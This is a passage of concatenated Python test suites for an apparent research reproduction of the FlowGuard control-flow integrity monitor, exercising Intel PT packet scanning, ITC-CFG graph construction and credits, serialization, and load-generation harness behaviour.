            f"{name} diverges from reference on {data[:40].hex()}..."
        )


class TestScannerTriParity:
    @pytest.mark.parametrize("seed", range(12))
    def test_structured_streams(self, seed):
        assert_tri_parity(build_stream(seed, packets=200))

    @pytest.mark.parametrize("seed", range(12))
    def test_uniform_random_buffers(self, seed):
        rng = random.Random(1000 + seed)
        assert_tri_parity(rng.randbytes(rng.randint(1, 600)))
        assert_tri_parity(rng.randbytes(rng.randint(1, 600)), sync=True)

    def test_every_truncation_cut(self):
        data = build_stream(7, packets=60)
        for cut in range(len(data) + 1):
            assert_tri_parity(data[:cut])

    @pytest.mark.parametrize("seed", range(8))
    def test_corruption_flips(self, seed):
        rng = random.Random(2000 + seed)
        data = bytearray(build_stream(seed, packets=120))
        for _ in range(6):
            data[rng.randrange(len(data))] = rng.randrange(256)
        assert_tri_parity(bytes(data))
        assert_tri_parity(bytes(data), sync=True)

    def test_pad_and_tnt_run_batching_edges(self):
        # Maximal PAD runs and long TNT runs are the vectorised scan's
        # bulk paths; hit the run boundaries explicitly.
        tnt_run = b"\x02\x7f" * 400      # 2400 TNT bits, many flushes
        cases = [
            b"",
            b"\x00" * 1024,
            tnt_run,
            b"\x00" * 257 + tnt_run + b"\x00" * 3,
            tnt_run + b"\x02",           # truncated TNT after a run
            tnt_run + b"\x02\x01",       # invalid payload after a run
            b"\x02\x00",                 # invalid payload (0)
            b"\x02\x01",                 # invalid payload (1)
            b"\x02\x80",                 # invalid payload (>0x7f)
            b"\x00\x02",                 # truncated TNT after PAD
        ]
        for data in cases:
            assert_tri_parity(data)

    def test_sync_prefix_and_clean_truncation(self):
        stream = build_stream(3, packets=50)
        garbage = b"\xde\xad\xbe\xef" * 9
        assert_tri_parity(garbage + stream, sync=True)
        # A trailing PSB prefix is a clean truncation, not an error.
        from repro.ipt.packets import PSB_PATTERN
        for cut in range(1, len(PSB_PATTERN)):
            assert_tri_parity(stream + PSB_PATTERN[:cut])

    def test_dispatcher_matches_forced_lanes(self, kernel_mode_guard):
        """columnar_scan under each mode equals the reference."""
        data = build_stream(11, packets=150)
        want = segment_columns(columnar_scan_reference(data))
        set_scan_kernel("off")
        assert not scan_kernel_active()
        assert segment_columns(columnar_scan(data)) == want
        if KERNEL_AVAILABLE:
            set_scan_kernel("on")
            assert scan_kernel_active()
            assert segment_columns(columnar_scan(data)) == want


class TestKernelGating:
    def test_mode_roundtrip(self, kernel_mode_guard):
        previous = set_scan_kernel("off")
        assert previous in SCAN_KERNEL_MODES
        assert scan_kernel_mode() == "off"
        assert set_scan_kernel(previous) == "off"

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError, match="unknown scan-kernel mode"):
            set_scan_kernel("simd")

    def test_forced_on_unavailable_raises(
        self, kernel_mode_guard, monkeypatch
    ):
        monkeypatch.setattr(scan_kernel, "load", lambda: None)
        monkeypatch.setattr(
            scan_kernel, "build_error", lambda: "no compiler"
        )
        set_scan_kernel("on")
        with pytest.raises(RuntimeError, match="forced on but unavailable"):
            columnar_scan(build_stream(1, packets=10))

    def test_off_mode_never_builds(self, kernel_mode_guard, monkeypatch):
        def boom():
            raise AssertionError("kernel loaded despite mode=off")

        monkeypatch.setattr(scan_kernel, "load", boom)
        set_scan_kernel("off")
        columnar_scan(build_stream(1, packets=10))


# -- degraded-lane byte cursor vs object cursor -------------------------------


def drive_cursor(cursor, ops):
    """Run an op script against a cursor, recording every result and
    the first TraceMismatch (message text included — the contract)."""
    out = []
    for op, arg in ops:
        try:
            if op == "tnt":
                out.append(("tnt", cursor.next_tnt_bit()))
            elif op == "tip":
                out.append(("tip", cursor.next_tip()))
            elif op == "far":
                out.append(("far", cursor.next_far_resume(arg)))
            else:
                out.append(("initial", cursor.initial_ip()))
        except TraceMismatch as exc:
            out.append(("mismatch", str(exc)))
            break
    return out


def cursor_pair(streams):
    """(byte cursor, packet cursor) over the same multi-part tail."""
    parts, packets, base = [], [], 0
    for stream in streams:
        seg = columnar._scan_python(stream, False, True)
        parts.append((seg, base))
        for pkt in fast_decode(stream).packets:
            packets.append(
                dataclasses.replace(pkt, offset=base + pkt.offset)
            )
        base += len(stream)
    return ColumnarSlowSource(parts).cursor(), _PacketCursor(packets)


def op_script(rng, length=120):
    ops = [("initial", None)] if rng.random() < 0.5 else []
    for _ in range(length):
        roll = rng.random()
        if roll < 0.55:
            ops.append(("tnt", None))
        elif roll < 0.9:
            ops.append(("tip", None))
        else:
            # Usually a wrong source — both cursors must produce the
            # same FUP-mismatch (or expected-FUP) message.
            ops.append(("far", rng.choice((0x400010, 0x12345))))
    return ops


class TestByteCursorParity:
    @pytest.mark.parametrize("seed", range(10))
    def test_single_part_scripts(self, seed):
        rng = random.Random(seed)
        byte_cur, pkt_cur = cursor_pair([build_stream(seed, packets=80)])
        script = op_script(rng)
        assert drive_cursor(byte_cur, script) == drive_cursor(
            pkt_cur, script
        )

    @pytest.mark.parametrize("seed", range(6))
    def test_multi_part_scripts(self, seed):
        rng = random.Random(100 + seed)
        streams = [
            build_stream(3 * seed + i, packets=40) for i in range(3)
        ]
        byte_cur, pkt_cur = cursor_pair(streams)
        script = op_script(rng, length=200)
        assert drive_cursor(byte_cur, script) == drive_cursor(
            pkt_cur, script
        )

    def test_exhaustion_returns_none(self):
        byte_cur, pkt_cur = cursor_pair([build_stream(5, packets=10)])
        script = [("tip", None)] * 50
        got = drive_cursor(byte_cur, script)
        assert got == drive_cursor(pkt_cur, script)
        assert got[-1] in (("tip", None), got[-1])

    def test_unconsumed_tnt_before_tip_message(self):
        from repro.ipt.packets import encode_ip_packet, encode_tnt
        from repro.ipt.packets import TIP_HEADER

        stream = bytearray(encode_tnt((True, False, True)))
        encoded, _ = encode_ip_packet(TIP_HEADER, 0x400000, 0)
        stream += encoded
        byte_cur, pkt_cur = cursor_pair([bytes(stream)])
        script = [("tnt", None), ("tip", None)]
        got = drive_cursor(byte_cur, script)
        assert got == drive_cursor(pkt_cur, script)
        assert got[-1][0] == "mismatch"
        assert "unconsumed TNT bits" in got[-1][1]


# -- policy knobs -------------------------------------------------------------


class TestPolicyKnobs:
    def test_defaults(self):
        policy = FlowGuardPolicy()
        assert policy.scan_kernel == "auto"
        assert policy.slow_lane == "columnar"

    @pytest.mark.parametrize("mode", SCAN_KERNEL_MODES)
    def test_scan_kernel_values(self, mode):
        assert FlowGuardPolicy(scan_kernel=mode).scan_kernel == mode

    @pytest.mark.parametrize("lane", SLOW_LANES)
    def test_slow_lane_values(self, lane):
        assert FlowGuardPolicy(slow_lane=lane).slow_lane == lane

    def test_invalid_values_rejected(self):
        with pytest.raises(ValueError, match="scan_kernel"):
            FlowGuardPolicy(scan_kernel="maybe")
        with pytest.raises(ValueError, match="slow_lane"):
            FlowGuardPolicy(slow_lane="turbo")

    def test_with_endpoints_carries_knobs(self):
        policy = FlowGuardPolicy(scan_kernel="off", slow_lane="objects")
        clone = policy.with_endpoints(0x400010)
        assert clone.scan_kernel == "off"
        assert clone.slow_lane == "objects"

    def test_fleet_config_knobs(self):
        from repro.fleet import FleetConfig

        config = FleetConfig(scan_kernel="off", slow_lane="objects")
        assert config.scan_kernel == "off"
        assert config.slow_lane == "objects"


# -- bursty open-loop schedule ------------------------------------------------


class TestBurstySchedule:
    def test_builtin_scenario_registered(self):
        from repro.loadgen import builtin_scenario

        scenario = builtin_scenario("bursty-open")
        assert scenario.mode == "open"
        assert scenario.burst == 3
        assert set(scenario.servers) == {"vsftpd", "openssh"}

    def test_burst_validation(self):
        from repro.loadgen import builtin_scenario
        from dataclasses import replace

        scenario = replace(builtin_scenario("bursty-open"), burst=0)
        with pytest.raises(ValueError, match="burst"):
            scenario.validate()

    def test_burst_one_matches_legacy_schedule(self):
        # burst=1 must reduce to the classic (k+1)*interarrival law the
        # existing open scenarios were digested under.
        interarrival = 60_000.0
        for burst in (1, 3, 5):
            times = [
                (k // burst + 1) * interarrival * burst
                for k in range(12)
            ]
            if burst == 1:
                assert times == [
                    (k + 1) * interarrival for k in range(12)
                ]
            # Same average rate: the last arrival of N requests lands
            # no later than ceil(N/burst) full burst periods.
            assert times[-1] == ((11 // burst) + 1) * interarrival * burst
            # Arrivals clump in groups of `burst` at identical times.
            for k in range(0, 12 - burst, burst):
                assert len(set(times[k:k + burst])) == 1

    def test_bursty_point_is_deterministic(self):
        from dataclasses import replace

        from repro.loadgen import builtin_scenario
        from repro.loadgen.engine import run_load_point

        scenario = replace(
            builtin_scenario("bursty-open"),
            sessions=2, connections_upper_bound=2, workers=1,
        )
        a = run_load_point(scenario, 2)
        b = run_load_point(scenario, 2)
        assert a.digest == b.digest
        assert a.completed == a.offered


# -- repro bench --engine -----------------------------------------------------


class TestBenchEngineFlag:
    def test_parser_accepts_engines(self):
        from repro.cli import build_parser

        parser = build_parser()
        args = parser.parse_args(
            ["bench", "--scenario", "smoke", "--engine", "objects"]
        )
        assert args.engine == "objects"
        # Default is None: "use whatever the scenario file says".
        assert parser.parse_args(
            ["bench", "--scenario", "smoke"]
        ).engine is None
        with pytest.raises(SystemExit):
            parser.parse_args(
                ["bench", "--scenario", "smoke", "--engine", "simd"]
            )


# -- performance trajectory ---------------------------------------------------


class TestTrajectory:
    def _loadgen_payload(self, knee=80.0, green=True):
        return {
            "quick": False,
            "scenario": {"name": "nginx-closed"},
            "knee": {"connections": 3, "throughput": knee},
            "search": {
                "best_connections": 3,
                "max_throughput": knee,
                "probes": 3,
                "slo_latency": 60_000.0,
                "slo_percentile": 99.0,
            },
            "gates": {"a": green, "b": True},
        }

    def test_seeded_baseline(self):
        from repro.experiments import trajectory

        doc = trajectory.new_trajectory()
        assert doc["entries"][0]["label"] == "pr7"
        assert doc["entries"][0]["knee_throughput"] >= (
            trajectory.KNEE_FLOOR
        )

    def test_append_only(self):
        from repro.experiments import trajectory

        doc = trajectory.new_trajectory()
        before = json.dumps(doc["entries"][0], sort_keys=True)
        entry = trajectory.entry_from_loadgen(
            self._loadgen_payload(), "pr8"
        )
        doc2 = trajectory.append_entry(doc, entry)
        assert [e["label"] for e in doc2["entries"]] == ["pr7", "pr8"]
        # The prior entry survives byte-for-byte.
        assert json.dumps(
            doc2["entries"][0], sort_keys=True
        ) == before

    def test_same_label_replaces_in_place(self):
        from repro.experiments import trajectory

        doc = trajectory.new_trajectory()
        doc = trajectory.append_entry(
            doc, trajectory.entry_from_loadgen(
                self._loadgen_payload(knee=80.0), "pr8"
            ),
        )
        doc = trajectory.append_entry(
            doc, trajectory.entry_from_loadgen(
                self._loadgen_payload(knee=81.0), "pr8"
            ),
        )
        assert [e["label"] for e in doc["entries"]] == ["pr7", "pr8"]
        assert doc["entries"][1]["knee_throughput"] == 81.0

    def test_gates(self):
        from repro.experiments import trajectory

        doc = trajectory.new_trajectory()
        assert trajectory.gates_passed(doc) == []
        # A regressing full-run entry fails the no-regression gate.
        bad = trajectory.entry_from_loadgen(
            self._loadgen_payload(knee=10.0), "pr9"
        )
        failing = trajectory.append_entry(doc, bad)
        failed = trajectory.gates_passed(failing)
        assert "knee_at_or_above_floor" in failed
        assert "no_regression_vs_first" in failed
        # A red loadgen run is recorded but flagged.
        red = trajectory.entry_from_loadgen(
            self._loadgen_payload(green=False), "pr9"
        )
        assert "all_entries_green" in trajectory.gates_passed(
            trajectory.append_entry(doc, red)
        )

    def test_record_roundtrip(self, tmp_path):
        from repro.experiments import trajectory

        loadgen_path = tmp_path / "loadgen.json"
        loadgen_path.write_text(json.dumps(self._loadgen_payload()))
        out = tmp_path / "traj.json"
        doc = trajectory.record(str(loadgen_path), str(out), "pr8")
        assert [e["label"] for e in doc["entries"]] == ["pr7", "pr8"]
        reloaded = trajectory.load_trajectory(str(out))
        assert reloaded == doc
        assert "Performance trajectory" in trajectory.format_table(doc)

    def test_kind_mismatch_rejected(self, tmp_path):
        from repro.experiments import trajectory

        bad = tmp_path / "other.json"
        bad.write_text(json.dumps({"kind": "loadgen-bench"}))
        with pytest.raises(ValueError, match="not a loadgen-trajectory"):
            trajectory.load_trajectory(str(bad))
