"""Tests for ITC-CFG construction, credits, search index, serialization.

Includes the paper's Figure 3 reconstruction example, the Figure 4 AIA
derogation example, and the §4.2 soundness theorem as an end-to-end
property: every pair of consecutive TIP packets in a real trace is an
ITC-CFG edge.
"""

import pytest

from repro.analysis import (
    ControlFlowGraph,
    Edge,
    EdgeKind,
    aia_itc,
    aia_itc_with_tnt,
    aia_ocfg,
    build_ocfg,
    flowguard_aia,
)
from repro.analysis.cfg import BasicBlock
from repro.binary import Loader
from repro.cpu import Executor, Machine, PROT_READ, PROT_WRITE
from repro.ipt import IPTConfig, IPTEncoder, ToPA, ToPARegion, fast_decode
from repro.ipt.msr import RTIT_CTL
from repro.itccfg import (
    CreditLabeledITC,
    CreditLevel,
    FlowSearchIndex,
    ITCCFG,
    ITCEdge,
    build_itccfg,
    itccfg_from_dict,
    itccfg_memory_bytes,
    itccfg_to_dict,
)
from repro.itccfg.credits import UnknownEdge
from repro.isa.registers import SP
from repro.lang import (
    Assign,
    Call,
    CallPtr,
    Const,
    Func,
    FuncRef,
    If,
    Let,
    Program,
    Rel,
    Return,
    Switch,
    Var,
    While,
)


def figure3_ocfg():
    """A 10-block O-CFG consistent with the Figure 3 narrative:

    - IT-BBs are exactly {2, 3, 5, 7, 9, 10},
    - BB-3 reaches BB-9 through direct edges + one indirect (via BB-6),
    - BB-3 reaches BB-10 through direct edges only,
    - BB-2 reaches BB-7 via one indirect hop (through BB-4).
    """
    bb = {i: 0x1000 * i for i in range(1, 11)}
    cfg = ControlFlowGraph()
    for i, start in bb.items():
        cfg.add_block(BasicBlock(start, start + 0x10, "app", f"bb{i}"))

    def direct(s, d):
        cfg.add_edge(Edge(bb[s], bb[d], EdgeKind.DIRECT_JMP, bb[s] + 8))

    def indirect(s, d):
        cfg.add_edge(Edge(bb[s], bb[d], EdgeKind.INDIRECT_JMP, bb[s] + 8))

    indirect(1, 2)
    indirect(1, 3)
    direct(2, 4)
    indirect(4, 7)
    indirect(2, 5)
    direct(3, 6)
    indirect(6, 9)
    direct(6, 10)
    indirect(5, 10)
    return cfg, bb


class TestFigure3:
    def test_it_bb_extraction(self):
        cfg, bb = figure3_ocfg()
        itc = build_itccfg(cfg)
        assert itc.nodes == {bb[i] for i in (2, 3, 5, 7, 9, 10)}

    def test_edge_via_indirect_hop(self):
        cfg, bb = figure3_ocfg()
        itc = build_itccfg(cfg)
        # BB-3 -> BB-9: direct to BB-6, then indirect to BB-9.
        assert itc.has_edge(bb[3], bb[9])

    def test_no_edge_without_indirect_hop(self):
        cfg, bb = figure3_ocfg()
        itc = build_itccfg(cfg)
        # BB-3 -> BB-10 is a purely direct path: no TIP would be
        # generated, so no ITC edge.
        assert not itc.has_edge(bb[3], bb[10])

    def test_bb2_to_bb7(self):
        cfg, bb = figure3_ocfg()
        itc = build_itccfg(cfg)
        assert itc.has_edge(bb[2], bb[7])
        assert itc.has_edge(bb[2], bb[5])

    def test_non_it_bbs_have_no_nodes(self):
        cfg, bb = figure3_ocfg()
        itc = build_itccfg(cfg)
        for i in (1, 4, 6, 8):
            assert bb[i] not in itc.nodes


class TestFigure4AIADerogation:
    def make(self):
        """X (IT) -> BB1 -> cond -> BB2|BB3; BB2 ~> {4,5}; BB3 ~> {5,6}."""
        addr = {name: 0x1000 * (i + 1) for i, name in
                enumerate(["W", "X", "B1", "B2", "B3", "B4", "B5", "B6"])}
        cfg = ControlFlowGraph()
        for name, start in addr.items():
            cfg.add_block(BasicBlock(start, start + 0x10, "app", name))
        a = addr
        cfg.add_edge(Edge(a["W"], a["X"], EdgeKind.INDIRECT_JMP, a["W"] + 8))
        cfg.add_edge(Edge(a["X"], a["B1"], EdgeKind.DIRECT_JMP, a["X"] + 8))
        cfg.add_edge(Edge(a["B1"], a["B2"], EdgeKind.COND_TAKEN, a["B1"] + 8))
        cfg.add_edge(Edge(a["B1"], a["B3"], EdgeKind.FALLTHROUGH, a["B1"] + 8))
        cfg.add_edge(Edge(a["B2"], a["B4"], EdgeKind.INDIRECT_JMP, a["B2"] + 8))
        cfg.add_edge(Edge(a["B2"], a["B5"], EdgeKind.INDIRECT_JMP, a["B2"] + 8))
        cfg.add_edge(Edge(a["B3"], a["B5"], EdgeKind.INDIRECT_JMP, a["B3"] + 8))
        cfg.add_edge(Edge(a["B3"], a["B6"], EdgeKind.INDIRECT_JMP, a["B3"] + 8))
        return cfg, addr

    def test_derogation_and_tnt_repair(self):
        cfg, addr = self.make()
        itc = build_itccfg(cfg)
        # In the ITC-CFG, node X sees all of {B4, B5, B6}: out-degree 3.
        assert itc.successors(addr["X"]) == {
            addr["B4"], addr["B5"], addr["B6"]
        }
        x_out = len(itc.successors(addr["X"]))
        assert x_out == 3
        # The two underlying indirect branches each allow only 2 targets:
        # grouping by branch (what TNT information pins down) recovers
        # the O-CFG precision.
        per_branch = aia_itc_with_tnt(itc)
        groups = {}
        for e in itc.edges:
            groups.setdefault((e.src, e.branch_addr), set()).add(e.dst)
        x_groups = {k: v for k, v in groups.items() if k[0] == addr["X"]}
        assert all(len(v) == 2 for v in x_groups.values())
        assert per_branch < aia_itc(itc) or len(itc.nodes) > 1

    def test_flowguard_formula(self):
        assert flowguard_aia(1.0, 2.0, 10.0) == 2.0
        assert flowguard_aia(0.0, 2.0, 10.0) == 10.0
        assert flowguard_aia(0.5, 2.0, 10.0) == 6.0
        with pytest.raises(ValueError):
            flowguard_aia(1.5, 1.0, 1.0)


class TestCredits:
    def make_labeled(self):
        itc = ITCCFG()
        itc.nodes = {0x100, 0x200, 0x300}
        itc.add_edge(ITCEdge(0x100, 0x200, 0x110))
        itc.add_edge(ITCEdge(0x200, 0x300, 0x210))
        itc.add_edge(ITCEdge(0x100, 0x300, 0x120))
        return CreditLabeledITC(itc=itc)

    def test_observe_trace_labels_edges(self):
        labeled = self.make_labeled()
        count = labeled.observe_trace(
            [(0x100, ()), (0x200, (True,)), (0x300, (False, True))]
        )
        assert count == 2
        assert labeled.credit_of(0x100, 0x200) is CreditLevel.HIGH
        assert labeled.credit_of(0x100, 0x300) is CreditLevel.LOW
        assert labeled.tnt_matches(0x200, 0x300, (False, True))
        assert not labeled.tnt_matches(0x200, 0x300, (True, True))
        assert 0x100 in labeled.trained_entry_nodes

    def test_observe_unknown_edge_strict(self):
        labeled = self.make_labeled()
        with pytest.raises(UnknownEdge):
            labeled.observe_pair(0x300, 0x100, ())

    def test_observe_unknown_edge_lenient(self):
        labeled = self.make_labeled()
        labeled.observe_pair(0x300, 0x100, (), strict=False)
        assert labeled.credit_of(0x300, 0x100) is CreditLevel.LOW

    def test_trained_ratio(self):
        labeled = self.make_labeled()
        assert labeled.trained_ratio() == 0.0
        labeled.observe_pair(0x100, 0x200, ())
        assert labeled.trained_ratio() == pytest.approx(1 / 3)

    def test_promote_caches_slow_path_negative(self):
        labeled = self.make_labeled()
        labeled.promote(0x100, 0x300, (True,))
        assert labeled.credit_of(0x100, 0x300) is CreditLevel.HIGH
        assert labeled.tnt_matches(0x100, 0x300, (True,))


class TestSearchIndex:
    def make_index(self):
        labeled = TestCredits().make_labeled()
        labeled.observe_trace([(0x100, ()), (0x200, (True,))])
        return FlowSearchIndex(labeled)

    def test_hot_cache_hit(self):
        index = self.make_index()
        result = index.check_edge(0x100, 0x200, (True,))
        assert result.in_graph
        assert result.credit is CreditLevel.HIGH
        assert result.tnt_ok
        assert result.probes == 1  # single hash probe

    def test_cold_edge_binary_search(self):
        index = self.make_index()
        result = index.check_edge(0x100, 0x300)
        assert result.in_graph
        assert result.credit is CreditLevel.LOW
        assert result.probes > 1

    def test_edge_not_in_graph(self):
        index = self.make_index()
        assert not index.check_edge(0x300, 0x100).in_graph
        assert not index.check_edge(0xDEAD, 0xBEEF).in_graph

    def test_tnt_mismatch_flagged(self):
        index = self.make_index()
        result = index.check_edge(0x100, 0x200, (False,))
        assert result.in_graph
        assert not result.tnt_ok

    def test_cycle_accounting(self):
        index = self.make_index()
        before = index.cycles
        index.check_edge(0x100, 0x300)
        assert index.cycles > before

    def test_memory_estimate_positive(self):
        index = self.make_index()
        assert index.memory_bytes() > 0


class TestSerialization:
    def test_roundtrip(self):
        labeled = TestCredits().make_labeled()
        labeled.observe_trace(
            [(0x100, ()), (0x200, (True, False)), (0x300, ())]
        )
        data = itccfg_to_dict(labeled)
        back = itccfg_from_dict(data)
        assert back.itc.nodes == labeled.itc.nodes
        assert {(e.src, e.dst) for e in back.itc.edges} == {
            (e.src, e.dst) for e in labeled.itc.edges
        }
        assert back.credit_of(0x100, 0x200) is CreditLevel.HIGH
        assert back.tnt_matches(0x200, 0x300, ())
        assert back.trained_entry_nodes == labeled.trained_entry_nodes

    def test_memory_bytes(self):
        labeled = TestCredits().make_labeled()
        assert itccfg_memory_bytes(labeled) > 0


def branchy_program():
    """A program with indirect calls, a switch, loops and lib-free flow."""
    prog = Program("branchy")
    prog.add_func(Func("h_add", ["a"], [Return(Var("a"))]))
    prog.add_func(
        Func("h_mul", ["a"], [Return(Var("a"))])
    )
    prog.add_func(
        Func(
            "dispatch",
            ["sel", "v"],
            [
                Let("fp", FuncRef("h_add")),
                If(
                    Rel("==", Var("sel"), Const(1)),
                    [Assign("fp", FuncRef("h_mul"))],
                ),
                Return(CallPtr(Var("fp"), [Var("v")])),
            ],
        )
    )
    prog.add_func(
        Func(
            "main",
            [],
            [
                Let("i", Const(0)),
                Let("acc", Const(0)),
                While(
                    Rel("<", Var("i"), Const(6)),
                    [
                        Assign(
                            "acc",
                            Call("dispatch",
                                 [Var("i"), Var("acc")]),
                        ),
                        Switch(
                            Var("i"),
                            {
                                0: [Assign("acc", Const(5))],
                                1: [Assign("acc", Const(6))],
                                2: [Assign("acc", Const(7))],
                            },
                            default=[],
                        ),
                        Assign("i", BinOpLike("+", Var("i"), Const(1))),
                    ],
                ),
                Return(Var("acc")),
            ],
        )
    )
    prog.set_entry("main")
    return prog


from repro.lang import BinOp as BinOpLike  # noqa: E402


class TestITCSoundness:
    """§4.2 theorem: consecutive TIPs always form ITC edges."""

    def trace_program(self, prog):
        image = Loader().load(prog.build())
        image.memory.map_region(
            0x7FFE0000, 0x20000, PROT_READ | PROT_WRITE
        )
        machine = Machine(image.memory)
        machine.ip = image.entry_address
        machine.set_reg(SP, 0x7FFFFF00)
        cpu = Executor(machine)
        config = IPTConfig()
        config.write_ctl(
            RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER
        )
        encoder = IPTEncoder(config, output=ToPA([ToPARegion(1 << 20)]))
        cpu.add_listener(encoder.on_branch)
        cpu.run(2_000_000)
        encoder.flush()
        return image, encoder

    def test_consecutive_tips_are_itc_edges(self):
        prog = branchy_program()
        image, encoder = self.trace_program(prog)
        cfg = build_ocfg(image)
        itc = build_itccfg(cfg)
        records = fast_decode(encoder.output.snapshot()).tip_records()
        assert len(records) >= 5
        for prev, cur in zip(records, records[1:]):
            # Every TIP lands on an IT-BB and every consecutive pair is
            # an ITC edge — the no-false-positive guarantee.
            assert itc.has_node(cur.ip), hex(cur.ip)
            assert itc.has_edge(prev.ip, cur.ip), (
                f"missing ITC edge {prev.ip:#x} -> {cur.ip:#x}"
            )

    def test_training_then_full_fast_path_match(self):
        prog = branchy_program()
        image, encoder = self.trace_program(prog)
        cfg = build_ocfg(image)
        itc = build_itccfg(cfg)
        labeled = CreditLabeledITC(itc=itc)
        records = fast_decode(encoder.output.snapshot()).tip_records()
        labeled.observe_trace((r.ip, r.tnt_before) for r in records)
        index = FlowSearchIndex(labeled)
        # Replaying the same trace must be all high-credit hits.
        for prev, cur in zip(records, records[1:]):
            result = index.check_edge(prev.ip, cur.ip, cur.tnt_before)
            assert result.in_graph
            assert result.credit is CreditLevel.HIGH
            assert result.tnt_ok

    def test_aia_ordering_matches_table4_shape(self):
        """AIA(ITC w/o TNT) >= AIA(O-CFG) >= AIA(FlowGuard-trained)."""
        prog = branchy_program()
        image, encoder = self.trace_program(prog)
        cfg = build_ocfg(image)
        itc = build_itccfg(cfg)
        from repro.analysis import aia_fine

        ocfg_aia = aia_ocfg(cfg)
        itc_aia = aia_itc(itc)
        fine = aia_fine(cfg)
        assert itc_aia >= 0
        assert fine <= ocfg_aia
        fg = flowguard_aia(1.0, fine, itc_aia)
        assert fg <= ocfg_aia
