"""Property-based invariants on core data structures (hypothesis)."""

import json

import pytest
from hypothesis import given, settings, strategies as st

from repro.ipt.topa import ToPA, ToPARegion
from repro.itccfg import (
    CreditLabeledITC,
    FlowSearchIndex,
    ITCCFG,
    ITCEdge,
    PathIndex,
    itccfg_from_dict,
    itccfg_to_dict,
)


class TestToPAReferenceModel:
    """The ToPA must behave like a simple bounded tail buffer."""

    @given(
        chunks=st.lists(st.binary(min_size=1, max_size=40), max_size=25),
        sizes=st.lists(st.integers(8, 64), min_size=1, max_size=4),
    )
    @settings(max_examples=60, deadline=None)
    def test_snapshot_matches_reference(self, chunks, sizes):
        topa = ToPA([ToPARegion(size) for size in sizes])
        reference = bytearray()
        for chunk in chunks:
            topa.write(chunk)
            reference += chunk
        snap = topa.snapshot()
        capacity = topa.capacity
        if not topa.wrapped:
            assert snap == bytes(reference)
        else:
            # A wrapped snapshot holds exactly the most recent
            # `capacity` bytes in order: it must equal the true tail.
            assert len(snap) == capacity
            assert snap == bytes(reference[-capacity:])

    @given(st.lists(st.binary(min_size=1, max_size=30), max_size=15))
    @settings(max_examples=40, deadline=None)
    def test_total_counter_monotone(self, chunks):
        topa = ToPA([ToPARegion(16), ToPARegion(16)])
        total = 0
        for chunk in chunks:
            topa.write(chunk)
            total += len(chunk)
            assert topa.total_bytes_written == total


# -- random ITC graphs + labels --------------------------------------------

_node = st.integers(0x1000, 0x1040).map(lambda v: v * 16)


@st.composite
def labeled_graphs(draw):
    edges = draw(
        st.lists(
            st.tuples(_node, _node, _node), min_size=1, max_size=30
        )
    )
    itc = ITCCFG()
    for src, dst, branch in edges:
        itc.nodes.add(src)
        itc.nodes.add(dst)
        itc.add_edge(ITCEdge(src, dst, branch))
    labeled = CreditLabeledITC(itc=itc)
    trained = draw(
        st.lists(st.sampled_from(edges), max_size=len(edges))
    )
    for src, dst, _ in trained:
        tnt = tuple(draw(st.lists(st.booleans(), max_size=4)))
        labeled.observe_pair(src, dst, tnt)
    return labeled


class TestSerializationEquivalence:
    @given(labeled_graphs())
    @settings(max_examples=40, deadline=None)
    def test_json_roundtrip_preserves_everything(self, labeled):
        data = json.loads(json.dumps(itccfg_to_dict(labeled)))
        restored = itccfg_from_dict(data)
        assert restored.itc.nodes == labeled.itc.nodes
        assert {(e.src, e.dst, e.branch_addr) for e in restored.itc.edges} \
            == {(e.src, e.dst, e.branch_addr) for e in labeled.itc.edges}
        for key, label in labeled.labels.items():
            assert restored.credit_of(*key) == label.credit
            assert restored.labels[key].tnt_patterns == label.tnt_patterns

    @given(labeled_graphs())
    @settings(max_examples=30, deadline=None)
    def test_search_index_agrees_with_graph(self, labeled):
        """The §5.3 sorted-array structure must answer membership
        identically to the graph it was built from."""
        index = FlowSearchIndex(labeled)
        for edge in labeled.itc.edges:
            assert index.check_edge(edge.src, edge.dst).in_graph
        # Nodes with no edge between them must be rejected.
        nodes = sorted(labeled.itc.nodes)
        for src in nodes[:5]:
            for dst in nodes[:5]:
                expected = labeled.itc.has_edge(src, dst)
                assert index.check_edge(src, dst).in_graph == expected

    @given(labeled_graphs())
    @settings(max_examples=30, deadline=None)
    def test_restored_index_equivalent(self, labeled):
        original = FlowSearchIndex(labeled)
        restored = FlowSearchIndex(
            itccfg_from_dict(itccfg_to_dict(labeled))
        )
        for edge in labeled.itc.edges:
            a = original.check_edge(edge.src, edge.dst)
            b = restored.check_edge(edge.src, edge.dst)
            assert (a.in_graph, a.credit) == (b.in_graph, b.credit)


class TestPathIndexInvariants:
    @given(st.lists(_node, min_size=4, max_size=20))
    @settings(max_examples=40, deadline=None)
    def test_trained_sequence_always_contained(self, nodes):
        index = PathIndex(gram=3)
        index.observe_sequence(nodes)
        assert index.untrained_grams(nodes) == []
        assert index.contains(nodes)

    @given(
        st.lists(_node, min_size=4, max_size=15),
        st.integers(1, 12),
    )
    @settings(max_examples=40, deadline=None)
    def test_windows_of_trained_sequence_contained(self, nodes, start):
        index = PathIndex(gram=3)
        index.observe_sequence(nodes)
        start = start % len(nodes)
        window = nodes[start : start + 6]
        if len(window) >= 2:
            assert index.contains(window)


class TestMonitorReport:
    def test_report_is_json_serializable(self):
        from repro.osmodel import Kernel
        from repro.pipeline import FlowGuardPipeline
        from repro.workloads import (
            build_libsim, build_nginx, build_vdso, nginx_request,
        )

        pipeline = FlowGuardPipeline.offline(
            "nginx", build_nginx(), {"libsim.so": build_libsim()},
            vdso=build_vdso(), corpus=[nginx_request("/a")],
            mode="socket",
        )
        kernel = Kernel()
        kernel.fs.create("/a", b"x")
        monitor, proc = pipeline.deploy(kernel)
        proc.push_connection(nginx_request("/a"))
        kernel.run(proc)
        report = json.loads(json.dumps(monitor.report()))
        assert report["policy"]["pkt_count"] == 30
        assert report["processes"][0]["checks"] > 0
        assert report["detections"] == []
