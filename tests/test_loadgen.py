"""Tests for the load-generation harness (repro.loadgen).

Pins the harness's contracts: scenario JSON round-trips (unknown keys
rejected, bundled examples in sync with the builtin registry), the
max-throughput-under-SLO bisection converging within its probe budget
on synthetic latency curves, deterministic seeded request mixes (and
the legacy constant workload staying byte-identical when unseeded),
closed- vs open-loop run digests (same seed reproduces, the two modes
measurably differ), and a small real load point's ledger exactness.
"""

import json
import os

import pytest

from repro.experiments.common import server_requests
from repro.loadgen import (
    BUILTIN_SCENARIOS,
    LoadScenario,
    builtin_scenario,
    mix_requests,
    resolve_scenario,
    run_load_point,
    search_max_under_slo,
    slo_search,
)
from repro.loadgen.search import probe_budget
